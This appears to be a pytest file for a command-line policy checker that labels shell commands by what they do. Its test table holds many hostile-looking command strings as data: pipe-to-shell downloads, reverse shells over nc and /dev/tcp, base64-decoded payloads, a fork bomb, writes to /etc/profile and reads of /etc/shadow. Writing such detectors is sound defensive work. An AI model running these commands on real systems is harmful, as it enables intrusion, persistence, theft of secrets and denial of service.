"""What a command line does, and by which of its programs: exact deeds of whole lines."""

import pytest

from policies.deed import Deed
from policies.script import Reader

LINES: dict[str, dict[Deed, str]] = {
    "curl x | sh": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    "curl x | bash -s": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | bash"},
    "wget -qO- x | python3": {Deed.DOWNLOAD: "wget", Deed.DOWNLOAD_AND_RUN: "wget | python"},
    "base64 -d /x | sh": {Deed.DECODE_AND_RUN: "base64 | sh"},
    "nc host 80 | sh": {Deed.REVERSE_SHELL: "nc | sh"},
    "sh | nc host 80": {Deed.REVERSE_SHELL: "a shell | nc", Deed.SEND: "nc"},
    "cat /x | nc host 80": {Deed.SEND: "nc"},
    "echo x | nc host 80": {},
    "printf x | nc host 80": {},
    "cat /x | sh | nc host 80": {Deed.REVERSE_SHELL: "a shell | nc", Deed.SEND: "nc"},
    "echo 'xmrig' | sh": {Deed.MINE: "xmrig"},
    "printf -e xmrig | sh": {Deed.MINE: "xmrig"},
    "echo -ne '\\x78mrig' | sh": {Deed.DECODE_AND_RUN: "echo | sh", Deed.MINE: "xmrig"},
    "echo '\\x' | sh": {Deed.DECODE_AND_RUN: "echo | sh"},
    "echo -n nmap | sh": {Deed.SCAN_NETWORK: "nmap"},
    "echo -en nmap | sh": {Deed.SCAN_NETWORK: "nmap"},
    "echo 'os.system(\"nmap x\")' | python3": {Deed.SCAN_NETWORK: "nmap"},
    "echo bm1hcCAtc1MgMTAuMC4wLjEvOA== | base64 -d | sh": {
        Deed.DECODE_AND_RUN: "base64 | sh",
        Deed.SCAN_NETWORK: "nmap",
    },
    "echo b3Muc3lzdGVtKCJubWFwIHgiKQ== | base64 -d | python3": {
        Deed.DECODE_AND_RUN: "base64 | python",
        Deed.SCAN_NETWORK: "nmap",
    },
    "curl x | (cat; sh)": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    "curl x | cat | sh": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    'sh -c "$(curl x)"': {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    'eval "$(curl x)"': {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    'eval "curl y | sh"': {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    ". <(curl x)": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | ."},
    "source <(curl x)": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | source"},
    "source x": {},
    "cmd /c nmap x": {Deed.SCAN_NETWORK: "nmap"},
    "awk 'BEGIN{s=\"/inet/tcp/0/h/1\"; s |& getline c; connect}'": {Deed.REVERSE_SHELL: "awk"},
    "gawk '/inet/tcp connect system(\"nmap x\")'": {Deed.REVERSE_SHELL: "gawk", Deed.SCAN_NETWORK: "nmap"},
    "awk '{system(\"nmap x\")}'": {},
    "echo x > /etc/profile": {Deed.PERSIST: "a write"},
    "echo x > /dev/tcp/h/1": {},
    "sh > /dev/udp/h/1 0<&1": {Deed.REVERSE_SHELL: "a shell on /dev/tcp"},
    "exec 5<>/dev/tcp/h/1; sh <&5 >&5": {Deed.REVERSE_SHELL: "a shell on /dev/tcp"},
    "exec 5<>/dev/tcp/h/1; sh <5 >6": {},
    "exec >/dev/tcp/h/1; sh 0<&1": {Deed.REVERSE_SHELL: "a shell on /dev/tcp"},
    "exec nohup x 5<>/dev/tcp/h/1; sh <&5": {Deed.REVERSE_SHELL: "a shell on /dev/tcp"},
    "cat < /proc/1/root": {},
    "echo > /proc/1/root/x": {Deed.ENTER_HOST: "/proc/1/root"},
    "cat /proc/1/root/x": {Deed.ENTER_HOST: "/proc/1/root"},
    ":(){ :|:& };:": {Deed.EXHAUST: "a fork bomb"},
    ": ( ) { :|:& };:": {Deed.EXHAUST: "a fork bomb"},
    "sudo id": {Deed.SUDO: "sudo"},
    "doas id": {Deed.SUDO: "doas"},
    "chroot /host id": {Deed.ENTER_HOST: "chroot"},
    "chroot /srv id": {},
    "chroot /srv id /host": {},
    "find / -exec sh -c 'nmap x' ;": {Deed.SCAN_NETWORK: "nmap"},
    "find / -exec sh nmap ;": {},
    "find / -name sh -c": {},
    "tee /etc/profile": {Deed.PERSIST: "tee"},
    "cp a /etc/profile": {Deed.PERSIST: "cp"},
    "mv a /etc/profile": {Deed.PERSIST: "mv"},
    "ln a /etc/profile": {Deed.PERSIST: "ln"},
    "install a /etc/profile": {Deed.PERSIST: "install"},
    "sed -i x /etc/profile": {Deed.PERSIST: "sed"},
    "curl -o /etc/profile": {Deed.PERSIST: "curl", Deed.DOWNLOAD: "curl"},
    "wget -O x /etc/profile": {Deed.PERSIST: "wget", Deed.DOWNLOAD: "wget"},
    "rsync a /etc/profile": {Deed.PERSIST: "rsync"},
    "cat /etc/profile": {},
    "tee /etc/profile x": {},
    "curl -o /tmp/f x; /tmp/f": {Deed.DOWNLOAD: "curl", Deed.RUN_DOWNLOADED: "f"},
    "curl -o /tmp/f x; sh /tmp/f": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "sh"},
    "curl -o /tmp/f x; sh -e f": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "sh"},
    "curl -o /tmp/f x; python3 /tmp/f": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "python"},
    "curl -o /tmp/f x; . /tmp/f": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "."},
    "curl -o /tmp/f x; source /tmp/f": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "source"},
    "curl -o /tmp/f x; sh": {Deed.DOWNLOAD: "curl"},
    "curl -o /tmp/f x; cat /tmp/f": {Deed.DOWNLOAD: "curl"},
    "curl x > /tmp/f; /tmp/f": {Deed.DOWNLOAD: "curl", Deed.RUN_DOWNLOADED: "f"},
    "curl x >> /tmp/f; /tmp/f": {Deed.DOWNLOAD: "curl", Deed.RUN_DOWNLOADED: "f"},
    "curl x 1> /tmp/f; /tmp/f": {Deed.DOWNLOAD: "curl", Deed.RUN_DOWNLOADED: "f"},
    "curl x 2> /tmp/f; /tmp/f": {Deed.DOWNLOAD: "curl"},
    "wget x/f; ./f": {Deed.DOWNLOAD: "wget", Deed.RUN_DOWNLOADED: "f"},
    "python -c 'import urllib; exec(urllib.x)'": {Deed.DOWNLOAD_AND_RUN: "python"},
    "python x.py /docker.sock": {Deed.TALK_TO_RUNTIME: "/docker.sock"},
    "python3 <(curl x)": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | python"},
    'python -c "$(curl x)"': {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | python"},
    "powershell iex downloadstring": {Deed.DOWNLOAD_AND_RUN: "powershell"},
    "pwsh iex downloadstring": {Deed.DOWNLOAD_AND_RUN: "pwsh"},
    "perl iex downloadstring": {},
    "sh <<< 'nmap x'": {Deed.SCAN_NETWORK: "nmap"},
    "cat <<< '/etc/shadow'": {Deed.READ_SECRETS: "/etc/shadow"},
    "sh x /etc/shadow": {Deed.READ_SECRETS: "/etc/shadow"},
    "$(curl x)": {Deed.DOWNLOAD: "curl", Deed.DOWNLOAD_AND_RUN: "curl | sh"},
    "$(echo nmap x)": {Deed.SCAN_NETWORK: "nmap"},
    "x$(curl x)": {Deed.DOWNLOAD: "curl"},
}


def read(
    texts: list[str], *, entrypoint: bool = False, wait: bool = False, characters: int = 10_000
) -> dict[tuple[Deed, int], str]:
    reader = Reader({"RUN": "nmap x"}, frozenset({"/mnt"}), characters, wait=wait)
    return dict(reader.line(texts, entrypoint=entrypoint))


@pytest.mark.parametrize(("line", "expected"), LINES.items(), ids=LINES)
def test_a_script_does(line: str, expected: dict[Deed, str]) -> None:
    found = read(["sh", "-c", line])
    assert found == {(Deed.SHELL, 2): "sh"} | {(deed, 2): shown for deed, shown in expected.items()}


@pytest.mark.parametrize(
    ("texts", "expected"),
    [
        (["nmap"], {(Deed.SCAN_NETWORK, 0): "nmap"}),
        (["A=b", "sudo", "nmap"], {(Deed.SUDO, 0): "sudo", (Deed.SCAN_NETWORK, 2): "nmap"}),
        (["nmap x"], {(Deed.SCAN_NETWORK, 0): "nmap"}),
        ([" nmap "], {}),
        (["nmap x", "y"], {}),
        (["$RUN $RUN"], {(Deed.SCAN_NETWORK, 0): "nmap"}),
        (["nice", "bash", "-x", "-c", "nmap"], {(Deed.SHELL, 4): "bash", (Deed.SCAN_NETWORK, 4): "nmap"}),
        (["sh", "x.sh", "-c", "nmap"], {}),
        (["find", "-exec", "sh", "-c", "nmap"], {(Deed.SHELL, 4): "sh", (Deed.SCAN_NETWORK, 4): "nmap"}),
        (["env", "x", "sh", "-c", "nmap"], {(Deed.SHELL, 4): "sh", (Deed.SCAN_NETWORK, 4): "nmap"}),
        (["x", "sh", "y", "sh", "-c", "nmap"], {(Deed.SHELL, 5): "sh", (Deed.SCAN_NETWORK, 5): "nmap"}),
        (["sh"] + ["-x"] * 3 + ["nmap"], {}),
        (["python", "-u", "-c", "system('nmap x')"], {(Deed.SCAN_NETWORK, 3): "nmap"}),
        (["nice", "python", "-c", "/docker.sock"], {(Deed.TALK_TO_RUNTIME, 3): "/docker.sock"}),
        (["x", *["y"] * 98, "sh", "-c", "nmap"], {(Deed.SHELL, 101): "sh", (Deed.SCAN_NETWORK, 101): "nmap"}),
        (["x", *["y"] * 99, "sh", "-c", "nmap"], {}),
    ],
)
def test_a_line_does_in_one_of_its_words(texts: list[str], expected: dict[tuple[Deed, int], str]) -> None:
    assert read(texts) == expected


@pytest.mark.parametrize(
    ("texts", "expected"),
    [
        (["-c", "nmap"], {(Deed.SHELL, 1): "sh", (Deed.SCAN_NETWORK, 1): "nmap"}),
        (["-ec", "nmap"], {(Deed.SHELL, 1): "sh", (Deed.SCAN_NETWORK, 1): "nmap"}),
        (["-x", "nmap"], {}),
        (["nmap"], {(Deed.SCAN_NETWORK, 0): "nmap"}),
    ],
)
def test_arguments_of_an_unknown_program(texts: list[str], expected: dict[tuple[Deed, int], str]) -> None:
    assert read(texts, entrypoint=True) == expected


WAITS = {Deed.SLEEP_FOREVER: "sleep"}
WAITS_AFTER_OTHERS = {Deed.WAIT: "sleep"}


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("sleep 600", WAITS),
        ("sleep 599", {}),
        ("sleep 1 600", WAITS),
        ("tail -f /dev/null", WAITS),
        ("tail -f /x", {}),
        *(
            (f"{idle}; sleep 600", WAITS)
            for idle in (
                "true",
                ":",
                "echo",
                "printf",
                "date",
                "wait",
                "trap",
                "[",
                "[[",
                "test",
                "exit",
                "pause",
            )
        ),
        ("A=b; exec; sleep 600", WAITS),
        ("work; sleep 600", WAITS_AFTER_OTHERS),
        ("sleep 600; work", WAITS_AFTER_OTHERS),
        ("python x; sleep 600", WAITS_AFTER_OTHERS),
        ("sh x; sleep 600", WAITS_AFTER_OTHERS),
        ("while true; do sleep 1; done", WAITS),
        ("while true; do work; sleep 600; done", {}),
        ("while true; do work; tail /dev/null; done", WAITS_AFTER_OTHERS),
        ("while true; do (sleep 1); done", WAITS),
        ("while true; do (sleep 1); work; done", WAITS_AFTER_OTHERS),
        ("while true; do echo; done", {}),
        ("while work; do sleep 1; done", {}),
        ("(sleep 1); work", WAITS_AFTER_OTHERS),
        ("work; (sleep 1)", WAITS_AFTER_OTHERS),
        ("(work; sleep 1); sleep 600", WAITS_AFTER_OTHERS),
        ("sleep 1; (echo)", {}),
    ],
)
def test_whether_it_waits(script: str, expected: dict[Deed, str]) -> None:
    found = {deed: shown for (deed, _), shown in read(["sh", "-c", script], wait=True).items()}
    assert found == {Deed.SHELL: "sh", **expected}
    assert read(["sh", "-c", script]) == {(Deed.SHELL, 2): "sh"}


def test_no_more_characters_of_scripts_are_read_than_there_are_left() -> None:
    script = "eval nmap"
    least = len(script) + len("nmap")
    assert (Deed.SCAN_NETWORK, 2) in read(["sh", "-c", script], characters=least)
    assert read(["sh", "-c", script], characters=least - 1) == {(Deed.SHELL, 2): "sh"}
    assert read(["sh", "-c", "nmap"], characters=4) == {(Deed.SHELL, 2): "sh", (Deed.SCAN_NETWORK, 2): "nmap"}
    assert read(["sh", "-c", "nmap"], characters=3) == {(Deed.SHELL, 2): "sh"}
